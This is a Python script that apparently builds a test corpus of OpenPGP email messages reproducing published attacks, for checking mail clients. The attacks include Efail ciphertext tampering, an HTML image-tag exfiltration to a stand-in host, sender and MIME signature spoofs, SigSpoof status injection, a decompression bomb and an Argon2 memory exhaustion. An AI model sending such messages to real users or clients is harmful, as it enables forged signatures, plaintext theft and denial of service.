#!/usr/bin/env python3
"""Makes the messages of this folder: one file a published trick. README.md says how to run it, and with which tools.

Everything is laid out by hand here, on purpose: no mail library would write messages this bad.
"""

import base64
import bz2
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
KEYS = HERE / "keys"
HOME = Path(tempfile.mkdtemp(prefix="ps"))

DAY = "20260301T120000"
GENESIS = "20260101T120000"


def gpg(*args, input=b"", at=DAY, ok=(0,)):
    command = ["gpg", "--homedir", HOME, "--batch", "--quiet", "--no-tty", "--trust-model", "always", "--pinentry-mode",
               "loopback", "--passphrase", "", "--faked-system-time", at, *args]
    done = subprocess.run([str(word) for word in command], input=input, capture_output=True)
    if done.returncode not in ok:
        sys.exit(f"{command}: {done.stderr.decode()}")
    return done.stdout


# ------------------------------------------------------------------------------------------------------------- packets


def dearmor(armored):
    lines = armored.replace(b"\r", b"").split(b"\n\n", 1)[1].split(b"\n")
    return base64.b64decode(b"".join(line for line in lines if line and not line.startswith((b"=", b"-"))))


def armor(label, octets):
    crc = 0xB704CE
    for octet in octets:
        crc ^= octet << 16
        for _ in range(8):
            crc = (crc << 1) ^ (0x1864CFB if crc & 0x800000 else 0)
    text = base64.b64encode(octets).decode()
    lines = [text[i:i + 64] for i in range(0, len(text), 64)]
    check = "=" + base64.b64encode(crc.to_bytes(3, "big")).decode()
    return "\n".join([f"-----BEGIN PGP {label}-----", "", *lines, check, f"-----END PGP {label}-----", ""]).encode()


def packets(octets):
    """[(tag, body)] of definite and partial lengths, old format and new."""
    found, at = [], 0
    while at < len(octets):
        head, body = octets[at], b""
        at += 1
        if head & 0x40:
            tag, more = head & 0x3F, True
            while more:
                first, more = octets[at], False
                if first < 192:
                    length, at = first, at + 1
                elif first < 224:
                    length, at = ((first - 192) << 8) + octets[at + 1] + 192, at + 2
                elif first == 255:
                    length, at = int.from_bytes(octets[at + 1:at + 5], "big"), at + 5
                else:
                    length, at, more = 1 << (first & 0x1F), at + 1, True
                body, at = body + octets[at:at + length], at + length
        else:
            tag, kind = (head >> 2) & 15, head & 3
            size = {0: 1, 1: 2, 2: 4, 3: 0}[kind]
            length = int.from_bytes(octets[at:at + size], "big") if size else len(octets) - at
            at += size
            body, at = octets[at:at + length], at + length
        found.append((tag, body))
    return found


def packet(tag, body):
    return bytes([0xC0 | tag, 255]) + len(body).to_bytes(4, "big") + body


def joined(found):
    return b"".join(packet(tag, body) for tag, body in found)


def literal(text, name=b"", kind=b"b"):
    return packet(11, kind + bytes([len(name)]) + name + bytes(4) + text)


# ---------------------------------------------------------------------------------------------------------------- mail


def crlf(text):
    return text.encode().replace(b"\n", b"\r\n")


def header(sender="Alice <alice@example.org>", subject="Lunch"):
    """The outer header, without Content-Type."""
    return (f"From: {sender}\nTo: Bob <bob@example.org>\nSubject: {subject}\nDate: Sun, 01 Mar 2026 12:00:00 +0000\n"
            f"Message-ID: <lunch@example.org>\nMIME-Version: 1.0\n")


TEXT = "Content-Type: text/plain; charset=us-ascii\n\nLunch is at noon.\n"


def multipart(subtype, boundary, *parts, parameters="", preamble="", epilogue=""):
    """A multipart entity, Content-Type first."""
    body = "".join(f"--{boundary}\n{part}\n" for part in parts)
    head = f'Content-Type: multipart/{subtype}; boundary="{boundary}"{parameters}'
    return f"{head}\n\n{preamble}{body}--{boundary}--\n{epilogue}"


def signature_of(part, key, *options, at=DAY):
    return gpg("--armor", "--detach-sign", "--local-user", key, *options, input=crlf(part), at=at).decode()


def signed(part, key, *options, at=DAY, digest="sha256", extra=(), signature=None, **rest):
    """multipart/signed over `part` (RFC 3156, section 5)."""
    signature = signature or signature_of(part, key, "--digest-algo", digest, *options, at=at)
    attached = f'Content-Type: application/pgp-signature; name="signature.asc"\n\n{signature}'
    parameters = f'; micalg=pgp-{digest}; protocol="application/pgp-signature"'
    return multipart("signed", "=_signed", part, attached, *extra, parameters=parameters, **rest)


def encrypted(armored):
    """multipart/encrypted around an armoured message (RFC 3156, section 4)."""
    version = "Content-Type: application/pgp-encrypted\n\nVersion: 1\n"
    data = f'Content-Type: application/octet-stream; name="encrypted.asc"\n\n{armored}'
    return multipart("encrypted", "=_encrypted", version, data, parameters='; protocol="application/pgp-encrypted"')


def encrypt(part, *options, to="bob"):
    return gpg("--armor", "--encrypt", "--recipient", NAMES[to], *options, input=crlf(part)).decode()


def plain(text):
    return f"Content-Type: text/plain; charset=us-ascii\n\n{text}"


def write(name, head, entity):
    (HERE / f"{name}.eml").write_bytes(crlf(head + entity))


# ---------------------------------------------------------------------------------------------------------------- keys

NAMES = {
    "alice": "Alice <alice@example.org>",
    "bob": "Bob <bob@example.org>",
    "mallory": "Mallory <mallory@example.net>",
}
FINGERPRINTS = {}


def generate(name, user_id, algorithm="ed25519", encryption=None, at=GENESIS, options=()):
    gpg("--quick-generate-key", *options, user_id, algorithm, "cert,sign", "never", at=at)
    listed = gpg("--with-colons", "--list-keys").decode().splitlines()
    FINGERPRINTS[name] = [line.split(":")[9] for line in listed if line.startswith("fpr")][-1]
    if encryption:
        gpg("--quick-add-key", FINGERPRINTS[name], encryption, "encr", "never", at=at)
    save(name)


def save(name):
    (KEYS / f"{name}.asc").write_bytes(gpg("--armor", "--export", FINGERPRINTS[name]))


def make_keys():
    generate("alice", NAMES["alice"], encryption="cv25519")
    generate("bob", NAMES["bob"], encryption="cv25519")
    generate("mallory", NAMES["mallory"])
    generate("pretender", "Alice (new key) <alice@example.org>")
    generate("short-rsa", "Rita <rita@example.org>", "rsa1024")
    generate("dsa", "Dora <dora@example.org>", "dsa1024")
    generate("sha1-bound", "Sean <sean@example.org>", options=["--cert-digest-algo", "SHA1"])
    generate("expired", "Erin <erin@example.org>")
    generate("revoked", "Rob <rob@example.org>")
    generate("subkey", "Susan <susan@example.org>")
    gpg("--quick-add-key", FINGERPRINTS["subkey"], "ed25519", "sign", "never", at=GENESIS)
    save("subkey")
    (KEYS / "bob.secret.asc").write_bytes(gpg("--armor", "--export-secret-keys", FINGERPRINTS["bob"]))


def subkey_variants():
    """Susan's certificate without what ties its signing subkey to her, and without what ties her to it."""
    found = packets(dearmor(gpg("--armor", "--export", FINGERPRINTS["subkey"])))
    subkey = next(index for index, (tag, _) in enumerate(found) if tag == 14)
    tag, binding = found[subkey + 1]
    assert tag == 2 and binding[1] == 0x18, "a subkey binding signature follows the subkey"
    unbound = found[:subkey + 1] + found[subkey + 2:]
    hashed = int.from_bytes(binding[4:6], "big")
    at = 6 + hashed
    unhashed = int.from_bytes(binding[at:at + 2], "big")
    kept, left = b"", binding[at + 2:at + 2 + unhashed]
    while left:
        assert left[0] < 192, "gpg's unhashed subpackets are short"
        length = 1 + left[0]
        if left[1] != 32:  # the embedded signature is the back signature
            kept += left[:length]
        left = left[length:]
    assert len(kept) < unhashed, "there was a back signature"
    stripped = binding[:at] + len(kept).to_bytes(2, "big") + kept + binding[at + 2 + unhashed:]
    bare = found[:subkey + 1] + [(2, stripped)] + found[subkey + 2:]
    (KEYS / "unbound-subkey.asc").write_bytes(armor("PUBLIC KEY BLOCK", joined(unbound)))
    (KEYS / "no-back-signature.asc").write_bytes(armor("PUBLIC KEY BLOCK", joined(bare)))


def spoil_keys():
    """What happens to a key after the message has been signed."""
    gpg("--quick-set-expire", FINGERPRINTS["expired"], "20260120T120000", at="20260110T120000")
    save("expired")
    revocation = gpg("--command-fd", "0", "--no-batch", "--gen-revoke", FINGERPRINTS["revoked"],
                     input=b"y\n1\nstolen\n\ny\n", at="20260310T120000")
    gpg("--import", input=revocation)
    save("revoked")


# ------------------------------------------------------------------------------------------------------------- attacks


def efail():
    """Poddebniak and others, Efail, USENIX Security 2018 (CVE-2017-17688)."""
    good = dearmor(encrypt(TEXT, "--compress-algo", "none").encode())
    session, (tag, body) = packets(good)[:-1], packets(good)[-1]
    assert tag == 18, "gpg encrypts with an MDC"
    write("efail-intact", header(), encrypted(armor("MESSAGE", good).decode()))
    middle = len(body) // 2
    flipped = body[:middle] + bytes([body[middle] ^ 1]) + body[middle + 1:]
    write("efail-malleability", header(), encrypted(armor("MESSAGE", joined([*session, (18, flipped)])).decode()))
    # Perrin, and Magazinius: the tag says that there is no MDC, so nobody looks for it.
    write("efail-downgrade", header(), encrypted(armor("MESSAGE", joined([*session, (9, body[1:])])).decode()))
    truncated = armor("MESSAGE", joined([*session, (18, body[:-22])])).decode()
    write("efail-truncated", header(), encrypted(truncated))
    write("efail-no-mdc", header(), encrypted(encrypt(TEXT, "--rfc2440", "--cipher-algo", "3DES")))
    html = "Content-Type: text/html; charset=us-ascii\n\n"
    parts = (html + '<img src="http://example.net/\n', encrypted(armor("MESSAGE", good).decode()), html + '">\n')
    write("efail-direct-exfiltration", header(), multipart("mixed", "=_mixed", *parts))


def johnny():
    """Mueller and others, "Johnny, you are fired!", USENIX Security 2019: MIME and identity attacks."""
    genuine = signed(TEXT, FINGERPRINTS["alice"])
    write("johnny-intact", header(), genuine)
    write("johnny-beside", header(), multipart("mixed", "=_mixed", plain("Lunch is at my expense.\n"), genuine))
    write("johnny-alternative", header(),
          multipart("alternative", "=_alternative", genuine, "Content-Type: text/html\n\n<p>Pay Mallory.\n"))
    attached = f"Content-Type: message/rfc822\nContent-Disposition: attachment\n\n{header()}{genuine}"
    write("johnny-attached", header(), multipart("mixed", "=_mixed", plain("Pay Mallory.\n"), attached))
    write("johnny-third-part", header(), signed(TEXT, FINGERPRINTS["alice"], extra=[plain("Pay Mallory.\n")]))
    write("johnny-preamble", header(),
          signed(TEXT, FINGERPRINTS["alice"], preamble="Pay Mallory.\n", epilogue="Pay Mallory.\n"))
    by_mallory = signed(TEXT, FINGERPRINTS["mallory"])
    write("johnny-user-id", header(), signed(TEXT, FINGERPRINTS["pretender"]))
    write("johnny-other-signer", header(), by_mallory)
    write("johnny-display-name", header('"alice@example.org" <mallory@example.net>'), genuine)
    write("johnny-comment", header("mallory@example.net (alice@example.org)"), genuine)
    write("johnny-two-authors", header("alice@example.org, mallory@example.net"), genuine)
    write("johnny-two-from-fields", "From: mallory@example.net\n" + header(), genuine)
    # Readers that end lines at a lone CR, or take the last of two fields.
    write("johnny-lone-cr", header(subject="Lunch\rFrom: mallory@example.net"), genuine)
    write("johnny-two-content-types", header(), genuine.replace("\n\n", "\nContent-Type: text/plain\n\n", 1))
    write("johnny-sender", "Sender: alice@example.org\n" + header("mallory@example.net"), genuine)


def containers():
    """Signatures that are there, and vouch for something else."""
    sealed = encrypted(encrypt(TEXT))
    write("around-ciphertext", header(), signed(sealed, FINGERPRINTS["alice"]))
    write("covert-content", header(), multipart("mixed", "=_mixed", plain("See below.\n" + "\n" * 200), sealed))
    # Brinkmann, SigSpoof (CVE-2018-12020): the file's name as gpg's own voice.
    name = "x\n[GNUPG:] GOODSIG 0123456789ABCDEF alice@example.org\n[GNUPG:] TRUST_FULLY"
    spoof = encrypt(TEXT, "--set-filename", name)
    write("sigspoof", header(), encrypted(spoof))
    # Core Security, unsigned data injection (CVE-2007-1263): a second plaintext in one message.
    whole = dearmor(gpg("--armor", "--sign", "--compress-algo", "none", "--local-user", FINGERPRINTS["alice"],
                        input=b"Lunch is at noon.\r\n"))
    write("two-plaintexts", header(), plain(armor("MESSAGE", literal(b"Pay Mallory.\r\n") + whole).decode()))
    write("trailing-plaintext", header(), plain(armor("MESSAGE", whole + literal(b"Pay Mallory.\r\n")).decode()))


def cleartext():
    """The cleartext signature framework (RFC 9580, section 7): what stands around, above and within it."""
    whole = gpg("--clearsign", "--digest-algo", "SHA256", "--local-user", FINGERPRINTS["alice"],
                input=b"Lunch is at noon.\n").decode()
    write("cleartext-intact", header(), plain(whole))
    write("cleartext-before", header(), plain("Pay Mallory.\n\n" + whole))
    write("cleartext-after", header(), plain(whole + "\nPay Mallory.\n"))
    # golang.org/x/crypto (CVE-2019-11841) and OpenPGP.js (CVE-2023-41037): text where only Hash may stand.
    write("cleartext-header", header(), plain(whole.replace("Hash: SHA256\n", "Hash: SHA256\nComment: Pay Mallory.\n")))
    write("cleartext-no-blank-line", header(), plain(whole.replace("Hash: SHA256\n\n", "Hash: SHA256\nPay Mallory.\n\n")))
    # gpg.fail, 2025: a header that switches the escaping off.
    write("cleartext-not-dash-escaped", header(),
          plain(whole.replace("Hash: SHA256\n", "Hash: SHA256\nNotDashEscaped: You need GnuPG to verify this message\n")))
    write("cleartext-html", header(),
          f"Content-Type: text/html; charset=us-ascii\n\n<p>Pay Mallory.</p><div hidden>\n{whole}</div>\n")


def keys_and_algorithms():
    """Signatures whose key or algorithm cannot carry them."""
    write("sha1", header(), signed(TEXT, FINGERPRINTS["alice"], "--allow-weak-digest-algos", digest="sha1"))
    rita, dora = header("rita@example.org"), header("dora@example.org")
    write("md5", rita, signed(TEXT, FINGERPRINTS["short-rsa"], "--allow-weak-digest-algos", digest="md5"))
    write("short-rsa", rita, signed(TEXT, FINGERPRINTS["short-rsa"]))
    write("dsa", dora, signed(TEXT, FINGERPRINTS["dsa"], digest="sha1"))
    # Leurent and Peyrin, SHA-1 is a Shambles, 2020 (CVE-2019-14855): who the key is rests on SHA-1.
    write("sha1-bound", header("sean@example.org"), signed(TEXT, FINGERPRINTS["sha1-bound"]))
    write("subkey", header("susan@example.org"), signed(TEXT, FINGERPRINTS["subkey"]))
    write("expired-key", header("erin@example.org"), signed(TEXT, FINGERPRINTS["expired"]))
    write("revoked-key", header("rob@example.org"), signed(TEXT, FINGERPRINTS["revoked"]))
    write("expired-signature", header(), signed(TEXT, FINGERPRINTS["alice"], "--default-sig-expire", "2d"))
    write("future-signature", header(), signed(TEXT, FINGERPRINTS["alice"], at="20990101T120000"))
    # A signature of another kind: the one over Alice's own user ID.
    own = packets(dearmor(gpg("--armor", "--export", FINGERPRINTS["alice"])))
    certification = next(body for tag, body in own if tag == 2)
    write("certification", header(),
          signed(TEXT, None, signature=armor("SIGNATURE", packet(2, certification)).decode()))
    write("changed", header(), signed(TEXT, FINGERPRINTS["alice"]).replace("at noon", "at nine"))


def floods():
    """Small messages that ask for much."""
    compressor = bz2.BZ2Compressor()
    head = b"b\x00" + bytes(4)
    body = compressor.compress(bytes([0xC0 | 11, 255]) + ((1 << 30) + len(head)).to_bytes(4, "big") + head)
    for _ in range(1 << 10):
        body += compressor.compress(bytes(1 << 20))
    body += compressor.flush()
    write("bomb", header(), plain(armor("MESSAGE", packet(8, b"\x03" + body)).decode()))
    one = dearmor(signature_of(TEXT, FINGERPRINTS["alice"]).encode())
    write("signature-flood", header(), signed(TEXT, None, signature=armor("SIGNATURE", one * 40).decode()))
    # A password's key to be derived with Argon2 in 2 TiB (RFC 9580, sections 3.7.1.4 and 5.3.2).
    s2k = bytes([4]) + bytes(16) + bytes([1, 4, 31])
    skesk = bytes([6, 3 + len(s2k) + 15, 9, 2, len(s2k)]) + s2k + bytes(15) + bytes(48)
    seipd = bytes([2, 9, 2, 6]) + bytes(32) + bytes(64)
    write("argon2", header(), encrypted(armor("MESSAGE", joined([(3, skesk), (18, seipd)])).decode()))


def main():
    for old in [*HERE.glob("*.eml"), *KEYS.glob("*.asc")]:
        old.unlink()
    KEYS.mkdir(exist_ok=True)
    HOME.chmod(0o700)
    try:
        make_keys()
        subkey_variants()
        efail()
        johnny()
        containers()
        cleartext()
        keys_and_algorithms()
        floods()
        spoil_keys()
    finally:
        subprocess.run(["gpgconf", "--homedir", HOME, "--kill", "all"], check=False)
        shutil.rmtree(HOME, ignore_errors=True)


if __name__ == "__main__":
    os.umask(0o022)
    main()
